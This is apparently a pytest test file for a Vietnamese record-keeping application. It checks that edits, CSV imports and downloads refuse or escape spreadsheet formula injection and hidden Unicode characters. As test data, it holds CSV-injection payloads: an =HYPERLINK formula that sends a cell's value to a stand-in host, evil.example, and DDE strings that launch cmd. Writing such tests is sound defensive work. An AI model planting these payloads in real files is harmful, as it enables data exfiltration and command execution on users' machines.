"""One cell policy for every write path and every download (issue 15, items 2 and 8)."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import pytest

from antt.writes import writer
from antt.writes.change_checks import check_change, check_folder

TODAY = dt.date(2025, 6, 30)


@pytest.mark.parametrize("value, message", [
    ('=HYPERLINK("http://evil.example/?"&A2,"Mở")',
     "Ô bắt đầu bằng “=” giống công thức bảng tính: không được chấp nhận. "
     "Hãy bỏ ký tự này ở đầu ô."),
    ("@SUM(1+1)*cmd|' /C calc'!A0",
     "Ô bắt đầu bằng “@” giống công thức bảng tính: không được chấp nhận. "
     "Hãy bỏ ký tự này ở đầu ô."),
    ("-2+3+cmd|' /C calc'!A0",
     "Ô bắt đầu bằng “-” giống công thức bảng tính: không được chấp nhận. "
     "Hãy bỏ ký tự này ở đầu ô."),
    ("Nhóm \u202eevil",
     "Ô “Nhóm <U+202E>evil” chứa ký tự ẩn U+202E (ký tự đổi hướng chữ): ô nhìn giống giá trị "
     "khác nhưng không phải. Hãy gõ lại ô này."),
    # Issue 25 item 9: NUL and ESC broke every Excel download of the table for everyone.
    ("Nhóm\x00A", "Ô “Nhóm<U+0000>A” chứa ký tự ẩn U+0000 (ký tự điều khiển): ô nhìn giống giá "
     "trị khác nhưng không phải. Hãy gõ lại ô này."),
    ("Nhóm\x1b[31m", "Ô “Nhóm<U+001B>[31m” chứa ký tự ẩn U+001B (ký tự điều khiển): ô nhìn "
     "giống giá trị khác nhưng không phải. Hãy gõ lại ô này."),
    ("Nhóm\x1fA", "Ô “Nhóm<U+001F>A” chứa ký tự ẩn U+001F (ký tự điều khiển): ô nhìn giống "
     "giá trị khác nhưng không phải. Hãy gõ lại ô này."),
])
def test_record_editor_refuses_formula_and_hidden_characters(mini_dir: Path, value, message):
    before = (mini_dir / "models.csv").read_bytes()
    with pytest.raises(writer.WriteError) as exc:
        writer.correct_record(mini_dir, "models", {"model_id": "M1"}, {"model_name": value},
                              "thu", today=TODAY)
    assert [str(p) for p in exc.value.problems] == [
        f"models.csv, dòng 2, cột “model_name”: {message}"]
    assert (mini_dir / "models.csv").read_bytes() == before
    assert writer.read_audit(mini_dir) == []


@pytest.mark.parametrize("char, kind", [
    ("\u00ad", "ký tự định dạng ẩn"), ("\u180e", "ký tự định dạng ẩn"),
    ("\u2061", "ký tự định dạng ẩn"), ("\ufe0f", "bộ chọn biến thể"),
    ("\U000e0041", "ký tự thẻ ẩn"), ("\u3164", "ký tự trống ẩn"), ("\u034f", "ký tự trống ẩn"),
])
def test_lookalike_names_with_characters_that_draw_nothing_are_refused(mini_dir: Path, char,
                                                                       kind):
    """Issue 25 item 9: these made two names look identical."""
    with pytest.raises(writer.WriteError) as exc:
        writer.correct_record(mini_dir, "models", {"model_id": "M1"},
                              {"model_name": f"Nhóm{char} A"}, "thu", today=TODAY)
    assert [str(p) for p in exc.value.problems] == [
        f"models.csv, dòng 2, cột “model_name”: Ô “Nhóm<U+{ord(char):04X}> A” chứa ký tự ẩn "
        f"U+{ord(char):04X} ({kind}): ô nhìn giống giá trị khác nhưng không phải. "
        "Hãy gõ lại ô này."]


def test_record_editor_still_takes_plain_values_and_numbers(mini_dir: Path):
    entry = writer.correct_record(mini_dir, "models", {"model_id": "M1"},
                                  {"model_name": "Nhóm đạo bình an (sửa)", "members": "13"},
                                  "thu", today=TODAY)
    assert entry.rows_changed == 1
    assert "M1,Nhóm đạo bình an (sửa)," in (mini_dir / "models.csv").read_text(encoding="utf-8")


# --- import and upsert ----------------------------------------------------------------------------

OUT = "record_id,held_on,village_code,model_id,topic,format,attendees"
MODELS = "model_id,model_name,model_type,village_code,established_on,ended_on,members"
FORMULA_DASH = ("Ô bắt đầu bằng “-” giống công thức bảng tính: không được chấp nhận. "
                "Hãy bỏ ký tự này ở đầu ô.")


def _import(mini_dir: Path, table: str, *lines: str) -> list[str]:
    from antt.entry.importer import import_file

    before = {p.name: p.read_bytes() for p in mini_dir.glob("*.csv")}
    result = import_file(table, ("\n".join(lines) + "\n").encode(), "a.csv", mini_dir,
                         user="thu", today=TODAY)
    if result.problems:
        assert {p.name: p.read_bytes() for p in mini_dir.glob("*.csv")} == before
    return [str(p) for p in result.problems]


def test_import_refuses_a_dash_formula_in_text_and_code_cells(mini_dir: Path):
    payload = "-2+3+cmd|' /C calc'!A0"
    assert _import(mini_dir, "models", MODELS,
                   f"M9,\"{payload}\",to_tu_quan,00002-01,2024-01-01,,5") == [
        f"a.csv, dòng 2, cột “model_name”: {FORMULA_DASH}"]
    assert _import(mini_dir, "outreach", OUT,
                   f"\"{payload}\",2024-06-05,00002-01,,luat_cu_tru,hop_thon,45") == [
        f"a.csv, dòng 2, cột “record_id”: {FORMULA_DASH}"]


def test_a_negative_number_is_a_number_not_a_formula(mini_dir: Path):
    assert _import(mini_dir, "outreach", OUT, ",2024-06-05,00002-01,,luat_cu_tru,hop_thon,-5") == [
        "a.csv, dòng 2, cột “attendees”: Số âm “-5” không hợp lệ: phải là số nguyên không âm."]


def test_lookalike_model_code_and_rtl_name_are_refused(mini_dir: Path):
    assert _import(mini_dir, "models", MODELS,
                   "M1\u200b,Nhóm mới,to_tu_quan,00002-01,2024-01-01,,5",
                   "M8,Nhóm \u202eđảo chiều,to_tu_quan,00002-01,2024-01-01,,5",
                   "M 7,Nhóm có mã cách,to_tu_quan,00002-01,2024-01-01,,5") == [
        "a.csv, dòng 2, cột “model_id”: Ô “M1<U+200B>” chứa ký tự ẩn U+200B (khoảng trắng độ "
        "rộng 0): ô nhìn giống giá trị khác nhưng không phải. Hãy gõ lại ô này.",
        "a.csv, dòng 3, cột “model_name”: Ô “Nhóm <U+202E>đảo chiều” chứa ký tự ẩn U+202E (ký "
        "tự đổi hướng chữ): ô nhìn giống giá trị khác nhưng không phải. Hãy gõ lại ô này.",
        "a.csv, dòng 4, cột “model_id”: Mã “M 7” không hợp lệ: mã chỉ gồm chữ cái không dấu, "
        "chữ số và các dấu - _ . (bắt đầu bằng chữ hoặc số, tối đa 40 ký tự)."]


def test_hidden_character_in_a_record_id_is_refused(mini_dir: Path):
    assert _import(mini_dir, "outreach", OUT,
                   "T1\u2066,2024-06-05,00002-01,,luat_cu_tru,hop_thon,45") == [
        "a.csv, dòng 2, cột “record_id”: Ô “T1<U+2066>” chứa ký tự ẩn U+2066 (ký tự đổi hướng "
        "chữ): ô nhìn giống giá trị khác nhưng không phải. Hãy gõ lại ô này."]


def test_writer_judges_new_lines_whatever_the_path(mini_dir: Path):
    """The one place (antt.writes.change_checks.check_change) refuses a lookalike key even when a
    caller skipped the importer's checks; stored lines are not judged again."""
    path = mini_dir / "models.csv"
    new = path.read_bytes() + "M1\ufeff,Nhóm,to_tu_quan,00002-01,2024-01-01,,5\n".encode()
    problems = check_change(mini_dir, "models", new, action="upsert", user="thu",
                                   today=TODAY)
    assert [str(p) for p in problems] == [
        "models.csv, dòng 5, cột “model_id”: Ô “M1<U+FEFF>” chứa ký tự ẩn U+FEFF (BOM/khoảng "
        "trắng độ rộng 0): ô nhìn giống giá trị khác nhưng không phải. Hãy gõ lại ô này."]


# --- downloads ----------------------------------------------------------------------------------


def _stored_formula(mini_dir: Path) -> None:
    """A model name stored before the policy (by hand or by an older version)."""
    path = mini_dir / "models.csv"
    text = path.read_text(encoding="utf-8").replace(
        "Nhóm đạo bình an Ân Phú", '"=HYPERLINK(""http://evil.example/?""&A2,""Mở"")"')
    path.write_text(text, encoding="utf-8")


def test_raw_csv_download_escapes_and_serves_the_last_good_data(mini_dir: Path):
    from antt.entry import templates
    from antt.ui.data_editing import stored_table

    _stored_formula(mini_dir)
    good = (mini_dir / "models.csv").read_bytes()
    assert check_folder(mini_dir, today=TODAY)[2] == []
    first = templates.table_csv("models", stored_table(str(mini_dir), "models"))
    lines = first.decode("utf-8").splitlines()
    assert lines[0] == "model_id,model_name,model_type,village_code,established_on,ended_on," \
                       "members"
    assert lines[3] == "M3,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"Mở\"\")\"," \
                       "nhom_dao_binh_an,00003-02,2024-11-01,,9"
    # every other byte as stored
    assert first.replace(b"\"'=", b"\"=") == good
    # the file breaks: the download keeps serving what the screens show
    (mini_dir / "models.csv").write_bytes(good + b"M3,broken,,,,,\n")
    assert templates.table_csv("models", stored_table(str(mini_dir), "models")) == first


def test_templates_write_text_never_formulas(mini_dir: Path):
    import io

    import openpyxl

    from antt.entry import templates

    _stored_formula(mini_dir)
    tables, _, problems = check_folder(mini_dir, today=TODAY)
    assert problems == []
    book = openpyxl.load_workbook(io.BytesIO(templates.template_xlsx("models", tables)))
    assert all(cell.data_type != "f" for sheet in book for row in sheet.iter_rows()
               for cell in row)
    example = book["Giải thích"]["G3"]  # the example of “Tên mô hình”: the last stored row
    assert example.data_type == "s"
    assert example.value == "'=HYPERLINK(\"http://evil.example/?\"&A2,\"Mở\")"
    csv_text = templates.template_csv("models", tables).decode("utf-8-sig")
    assert "HYPERLINK" not in csv_text  # its second row explains the columns, no stored value
    export = openpyxl.load_workbook(io.BytesIO(templates.table_xlsx("models", tables["models"])))
    cell = export.active["B4"]
    assert (cell.data_type, cell.value[:3]) == ("s", "'=H")


def test_map_village_table_csv_escapes_names():
    import pandas as pd

    from antt.ui.downloads import csv_bytes  # what the map page's village table downloads

    frame = pd.DataFrame({"Thôn": ["Nà Lầu", "@SUM(1+1)*cmd|' /C calc'!A0"], "Số": [1, -2]})
    lines = csv_bytes(frame).decode("utf-8-sig").splitlines()
    assert lines[1:] == ["Nà Lầu;1", "'@SUM(1+1)*cmd|' /C calc'!A0;-2"]
